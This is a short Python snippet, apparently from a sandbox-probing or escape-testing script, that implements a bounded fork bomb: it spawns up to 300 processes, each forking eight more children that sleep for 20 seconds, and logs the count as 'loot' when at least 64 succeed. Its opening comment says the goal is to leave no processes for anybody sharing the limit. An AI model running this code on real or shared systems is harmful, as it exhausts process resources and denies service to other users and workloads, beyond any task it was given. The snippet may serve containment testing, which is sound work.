# Until the limit says no; then there is no process left for anybody, if the limit is not ours alone.
# prelude
if FIRST:
    tried("fork")
    made, end = 0, time.monotonic() + 0.3
    while time.monotonic() < end and made < 300:
        try:
            if os.fork() == 0:
                for _ in range(8):  # the children of the bomb
                    try:
                        os.fork()
                    except OSError:
                        break
                time.sleep(20)
                os._exit(0)
            made += 1
        except OSError:
            time.sleep(0.01)
    if made >= 64:
        loot(f"{made} processes")
    tried("full")
